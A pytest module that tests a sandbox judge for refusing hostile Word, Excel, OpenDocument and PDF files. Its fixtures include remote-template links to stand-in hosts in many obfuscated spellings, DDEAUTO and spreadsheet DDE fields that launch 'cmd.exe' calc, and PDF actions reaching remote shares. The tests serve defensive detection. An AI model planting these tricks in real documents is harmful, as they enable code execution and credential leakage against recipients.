"""What documents would do when they are opened, in the spellings it can be written in: row 109.

Every hostile document here is one honest part with one thing changed. They are judged in this process: that the same
happens in one without rights is what tests/security/test_files.py shows.
"""

import io
import re
import sys
from functools import cache
from typing import Any

import pypdf
import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from ashgabat_centre.files import checks, plain, sandbox
from tests import sample_files
from tests.security.test_files import judged

PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BASE = sample_files.small_document()
RELS = "word/_rels/settings.xml.rels"
AWAY = "http://198.51.100.7/t.dotm"


def verdict(content: bytes, ending: str = "docx") -> dict[str, Any]:
    with plain.open_plain() as file:
        file.write(content)
        file.flush()
        return sandbox.judge(file, ending)


def relation(kind: str = "attachedTemplate", target: str = AWAY, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="r1" Type="{KIND}/{kind}" Target="{target}"{mode}/>'


def relations(*lines: str) -> str:
    return f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}">{"".join(lines)}</Relationships>'


def with_part(name: str, content: str | bytes) -> bytes:
    data = content.encode() if isinstance(content, str) else content
    return sample_files.with_members(BASE, {name: data})


def references(text: str) -> str:
    return "".join(f"&#x{ord(letter):x};" for letter in text)


# --- Remote templates in every spelling -----------------------------------------------------------------------

PLAIN = relations(relation())
SPELT: dict[str, tuple[str, str | bytes]] = {
    "as office programs write it": (RELS, PLAIN),
    "single quotes": (RELS, PLAIN.replace('"', "'")),
    "blanks": (RELS, PLAIN.replace("=", " \n=\t ").replace('<?xml version \n=\t "1.0"?>', "")),
    "references": (RELS, relations(relation(target=references(AWAY)))),
    "references in the mode": (RELS, PLAIN.replace('"External"', f'"{references("External")}"')),
    "UTF-16": (RELS, PLAIN.replace('<?xml version="1.0"?>', "").encode("utf-16")),
    "capitals": ("word/_rels/settings.xml.RELS", PLAIN),
    "padding": (RELS, relations("<!-- " + "x" * (5 << 20) + " -->", relation())),
    "a bracket before it": (RELS, PLAIN.replace('Id="r1"', 'Id="r1>"')),
    "a prefix": (RELS, f'<p:Relationships xmlns:p="{PACKAGE}"><p:R' + relation()[2:] + "</p:Relationships>"),
    "the mode in capitals": (RELS, PLAIN.replace("External", "EXTERNAL")),
    "no mode": (RELS, relations(relation(mode=""))),
    "the strict kind": (RELS, PLAIN.replace(KIND, "http://purl.oclc.org/ooxml/officeDocument/relationships")),
    "another encoding": (RELS, PLAIN.replace("?>", ' encoding="windows-1251"?>', 1).encode("cp1251")),
}


@pytest.mark.parametrize("spelling", SPELT)
def test_row_109_a_template_on_another_computer_is_refused_however_it_is_spelt(spelling: str) -> None:
    part, content = SPELT[spelling]
    answer = verdict(with_part(part, content))
    assert (answer["refused"], answer["part"], answer["aim"]) == ("template", part, AWAY)


TARGETS_AWAY = (
    "https://evil.example/a.dotm",
    "\\\\198.51.100.7\\share\\a.dotm",
    "//198.51.100.7/share/a.dotm",
    "file://198.51.100.7/share/a.dotm",
    "file:////198.51.100.7/share/a.dotm",
    "file:///\\\\198.51.100.7\\share\\a.dotm",
    "FILE:\\\\198.51.100.7\\a.dotm",
    "%5C%5C198.51.100.7%5Cshare%5Ca.dotm",
    "%255c%255c198.51.100.7%255ca.dotm",
    " \\\\198.51.100.7\\a.dotm",
    "ht\u200btp://evil.example/a.dotm",
    "\\\\?\\UNC\\198.51.100.7\\a.dotm",
    "\\??\\UNC\\198.51.100.7\\a.dotm",
    "mhtml:http://evil.example/a!x",
    "ftp://evil.example/a.dotm",
)
TARGETS_AT_HOME = (
    "file:///C:\\Users\\aigul\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
    "file:///C:/Users/aigul/Templates/UNRCCA%20note.dotx",
    "file:///Users/aigul/Templates/Normal.dotm",
    "C:\\Templates\\Letter.dotx",
    "Normal.dotm",
    "../Templates/Note verbale.dotx",
)


@pytest.mark.parametrize("target", TARGETS_AWAY)
def test_row_109_every_way_to_another_computer_is_one(target: str) -> None:
    assert verdict(with_part(RELS, relations(relation(target=target))))["refused"] == "template"


@pytest.mark.parametrize("target", TARGETS_AT_HOME)
def test_row_109_a_template_of_ones_own_disk_does_no_harm(target: str) -> None:
    assert verdict(with_part(RELS, relations(relation(target=target))))["refused"] == ""


@pytest.mark.parametrize("kind", ["hyperlink"])
def test_row_109_a_link_that_a_person_follows_does_no_harm(kind: str) -> None:
    assert verdict(with_part(RELS, relations(relation(kind))))["refused"] == ""


KINDS = {
    "image": "picture",
    "video": "picture",
    "oleObject": "object",
    "subDocument": "object",
    "frame": "object",
    "aFChunk": "object",
    "externalLinkPath": "data",
    "mailMergeSource": "data",
    "somethingNew": "fetches",
}


@pytest.mark.parametrize(("kind", "word"), KINDS.items())
def test_row_109_whatever_is_fetched_by_itself_is_refused(kind: str, word: str) -> None:
    assert verdict(with_part(RELS, relations(relation(kind))))["refused"] == word


@pytest.mark.parametrize(
    ("kind", "word"), {"vbaProject": "macro", "oleObject": "embedded", "aFChunk": "embedded"}.items()
)
def test_row_109_a_macro_by_another_name_is_one(kind: str, word: str) -> None:
    content = with_part(RELS, relations(relation(kind, "notes.bin", "")))
    assert verdict(content)["refused"] == word


# --- Fields ---------------------------------------------------------------------------------------------------


def run(*children: str) -> str:
    return "".join(f"<w:r>{child}</w:r>" for child in children)


def char(kind: str) -> str:
    return f'<w:fldChar w:fldCharType="{kind}"/>'


def code(text: str) -> str:
    return f'<w:instrText xml:space="preserve">{text}</w:instrText>'


def field(*parts: str) -> str:
    return run(char("begin"), *parts, char("separate"), "<w:t>x</w:t>", char("end"))


def text_part(body: str) -> str:
    return f'<w:document xmlns:w="{WORDS}"><w:body><w:p>{body}</w:p></w:body></w:document>'


CALC = "c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"
QUOTE = run(char("begin"), code("QUOTE 68 68 69"), char("end"))
FIELDS = {
    "simple": (f'<w:fldSimple w:instr=" DDEAUTO {CALC}"><w:r/></w:fldSimple>', "command"),
    "over elements": (field(code(f"DDEAUTO {CALC}")), "command"),
    "cut up": (field(code("D"), code("DE"), code(f"AUTO {CALC}")), "command"),
    "small letters": (field(code(f" ddeauto {CALC}")), "command"),
    "references": (field(code(f"{references('DDE')} {CALC}")), "command"),
    "deleted and kept": (field(f"<w:delInstrText>DDE {CALC}</w:delInstrText>"), "command"),
    "left open": (run(char("begin"), code(f"DDE {CALC}")), "command"),
    "made by another field": (field(QUOTE, code(f" {CALC}")), "field"),
    "half made by another field": (field(code("D"), QUOTE, code(f" {CALC}")), "field"),
    "inside another field": (field(code("IF 1 = 1 "), field(code(f"DDE {CALC}"))), "command"),
    "picture": (field(code('INCLUDEPICTURE "http://evil.example/a.png" \\* MERGEFORMAT \\d')), "picture"),
    "picture on a share": (field(code("INCLUDEPICTURE \\\\\\\\198.51.100.7\\\\a.png")), "picture"),
    "another text": (field(code('INCLUDETEXT "C:\\\\secret.docx"')), "object"),
    "linked object": (field(code('LINK Excel.Sheet.8 "C:\\\\budget.xlsx" a1')), "object"),
}
HONEST_FIELDS = (
    field(code(" PAGE ")),
    field(code('HYPERLINK "https://unrcca.unmissions.org"')),
    field(code("TOC \\o &quot;1-3&quot; \\h")),
    field(code("="), run(char("begin"), code("PAGE"), char("end")), code(" - 1")),
    field(code('INCLUDEPICTURE "media/image1.png" \\* MERGEFORMAT')),
    "<w:r><w:t>DDEAUTO c:\\\\windows\\\\cmd.exe is how it is written</w:t></w:r>",
)


@pytest.mark.parametrize("case", FIELDS)
def test_row_109_a_field_is_judged_by_its_command(case: str) -> None:
    body, word = FIELDS[case]
    answer = verdict(with_part("word/document.xml", text_part(body)))
    assert (answer["refused"], answer["part"]) == (word, "word/document.xml")


@pytest.mark.parametrize("body", HONEST_FIELDS)
def test_row_109_honest_fields_and_words_about_fields_do_no_harm(body: str) -> None:
    assert verdict(with_part("word/footer1.xml", text_part(body)))["refused"] == ""


# --- Sheets, slides, drawings, OpenDocument -------------------------------------------------------------------

SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XLINK = "http://www.w3.org/1999/xlink"
ODF = "urn:oasis:names:tc:opendocument:xmlns:"
PARTS = {
    "DDE of a sheet": (
        f'<externalLink xmlns="{SHEETS}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        "command",
    ),
    "DDE in a formula": (f"<c xmlns='{SHEETS}'><f>1+cmd|'/c calc'!A0</f></c>", "command"),
    "a web service": (f'<c xmlns="{SHEETS}"><f>_xlfn.WEBSERVICE("http://x")</f></c>', "data"),
    "a web query": (f'<connection xmlns="{SHEETS}"><webPr url="http://x"/></connection>', "data"),
    "a program under the mouse": (
        '<a:hlinkMouseOver xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'action="ppaction://program"/>',
        "command",
    ),
    "a picture of the old drawings": (
        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="//198.51.100.7/a.png"/>',
        "picture",
    ),
    "a template of OpenDocument": (
        f'<meta:template xmlns:meta="{ODF}meta:1.0" xmlns:xlink="{XLINK}" xlink:href="{AWAY}"/>',
        "template",
    ),
    "a picture of OpenDocument": (
        f'<draw:image xmlns:draw="{ODF}drawing:1.0" xmlns:xlink="{XLINK}" xlink:href="https://x/a.png"/>',
        "picture",
    ),
    "DDE of OpenDocument": (
        f'<office:dde-source xmlns:office="{ODF}office:1.0" office:dde-application="soffice"/>',
        "command",
    ),
    "a script of OpenDocument": (f'<office:script xmlns:office="{ODF}office:1.0"/>', "macro"),
    "a section of another text": (
        f'<t:section-source xmlns:t="{ODF}text:1.0" xmlns:xlink="{XLINK}" xlink:href="C:\\secret.odt"/>',
        "object",
    ),
    "declared types": ('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "entities"),
    "no XML": ("<a>", "damaged"),
}
HONEST_PARTS = {
    "a formula": f'<c xmlns="{SHEETS}"><f>SUM(A1:A3)&amp;"cmd|x!"</f></c>',
    "a link": f'<t:a xmlns:t="{ODF}text:1.0" xmlns:xlink="{XLINK}" xlink:href="https://www.un.org"/>',
    "a template": f'<m:template xmlns:m="{ODF}meta:1.0" xmlns:xlink="{XLINK}" xlink:href="../Note.ott"/>',
    "a picture": f'<d:image xmlns:d="{ODF}drawing:1.0" xmlns:xlink="{XLINK}" xlink:href="Pictures/1.png"/>',
}


@pytest.mark.parametrize("case", PARTS)
@pytest.mark.parametrize("name", ["xl/part.xml", "customXml/item.bin"])
def test_row_109_a_part_is_judged_by_what_it_means(case: str, name: str) -> None:
    body, word = PARTS[case]
    answer = verdict(with_part(name, body))
    assert (answer["refused"], answer["part"]) == (word, name)


@pytest.mark.parametrize("case", HONEST_PARTS)
def test_row_109_honest_parts_do_no_harm(case: str) -> None:
    assert verdict(with_part("xl/part.xml", HONEST_PARTS[case]))["refused"] == ""


# --- PDF ------------------------------------------------------------------------------------------------------


def names(**values: Any) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in values.items()})


def pdf_that(where: str, action: DictionaryObject) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(sample_files.pdf()))
    kept = writer._add_object(action)
    if where == "opens":
        writer.root_object[NameObject("/OpenAction")] = kept
    elif where == "turns":
        writer.pages[0][NameObject("/AA")] = names(O=kept)
    else:
        link = names(Subtype=NameObject("/Link"), A=kept)
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return sample_files.written(writer)


def go_to(target: Any) -> DictionaryObject:
    return names(S=NameObject("/GoToR"), F=target)


SHARE = TextStringObject("\\\\198.51.100.7\\share\\a.pdf")
ADDRESS = names(S=NameObject("/URI"), URI=TextStringObject("http://evil.example/"))
PDFS = {
    "a share, at once": pdf_that("opens", go_to(SHARE)),
    "a share, on a click": pdf_that("links", go_to(names(F=SHARE, UF=SHARE))),
    "a share, at a turned page": pdf_that("turns", go_to(TextStringObject("//198.51.100.7/a.pdf"))),
    "an address, at once": pdf_that("opens", ADDRESS),
    "an address, afterwards": pdf_that("turns", names(S=NameObject("/Named"), Next=ADDRESS)),
    "an address as a file": pdf_that("links", go_to(names(FS=NameObject("/URL"), F=TextStringObject("a")))),
}
HONEST_PDFS = {
    "a link": pdf_that("links", ADDRESS),
    "a file beside it": pdf_that("links", go_to(TextStringObject("annex.pdf"))),
    "a file of one's disk": pdf_that("links", go_to(TextStringObject("/C/reports/annex.pdf"))),
}


@pytest.mark.parametrize("case", PDFS)
def test_row_109_a_pdf_that_reaches_for_another_computer_is_refused(case: str) -> None:
    answer = verdict(PDFS[case], "pdf")
    assert (answer["refused"], bool(re.fullmatch(r"\d+ 0 obj|trailer", answer["part"]))) == ("share", True)


@pytest.mark.parametrize("case", HONEST_PDFS)
def test_row_109_a_pdf_with_links_does_no_harm(case: str) -> None:
    assert verdict(HONEST_PDFS[case], "pdf")["refused"] == ""


# --- What is said, and whether these tests see a fault ---------------------------------------------------------


def test_row_109_the_refusal_names_the_part_and_what_it_would_do() -> None:
    sentence = judged(with_part(RELS, PLAIN), "minutes.docx")
    assert sentence == f"{checks.SENTENCES['template']} It stands in the part “{RELS}”: “{AWAY}”."
    assert judged(sample_files.document(), "minutes.docx") == ""


def test_row_109_what_is_repeated_of_a_hostile_file_can_not_turn_the_sentence() -> None:
    answer = verdict(with_part(RELS, relations(relation(target=AWAY + "\u202e" + "x" * 9999))))
    sentence = checks.tell(answer, checks.SENTENCES)
    assert ("\u202e" in sentence, len(sentence) < 400) == (False, True)


@cache
def hostile() -> list[tuple[bytes, str]]:
    parts = [*SPELT.values()]
    parts += [(RELS, relations(relation(target=target))) for target in TARGETS_AWAY]
    parts += [(RELS, relations(relation("oleObject", "C:\\run.exe")))]
    parts += [("word/document.xml", text_part(body)) for body, _word in FIELDS.values()]
    parts += [("xl/part.xml", body) for body, _word in PARTS.values()]
    documents = [(with_part(part, content), "docx") for part, content in parts]
    return [*documents, *((content, "pdf") for content in PDFS.values())]


def judging(name: str) -> Any:
    """A module of the sandbox's, which it loads by its path."""
    return sys.modules[f"judges.{name}"]


WEAKER: dict[str, tuple[Any, str, Any]] = {
    "backslashes are not turned": (judging("destinations"), "SLASHES", {}),
    "blanks and the invisible count": (judging("destinations"), "UNSEEN", set()),
    "what lies on one's own disk does no harm": (judging("office_relations"), "AT_HOME", {"oleobject"}),
    "a field left open is none": (judging("field_codes").FieldReader, "close", lambda reader: None),
    "formulas are not read": (judging("office_parts"), "judge_formula", lambda part, formula: None),
    "an action is where it stands": (
        judging("pdf_actions").Reach,
        "resolved",
        lambda reach, values: iter(values),
    ),
    "the files that a PDF names are not looked at": (judging("pdf_actions"), "FILES", ()),
}


@pytest.mark.parametrize("fault", WEAKER)
def test_row_109_a_weaker_judge_is_seen(fault: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(*WEAKER[fault])
    assert any(not verdict(content, ending)["refused"] for content, ending in hostile())


def test_row_109_and_the_judge_there_is_lets_none_of_them_pass() -> None:
    assert "" not in [verdict(content, ending)["refused"] for content, ending in hostile()]
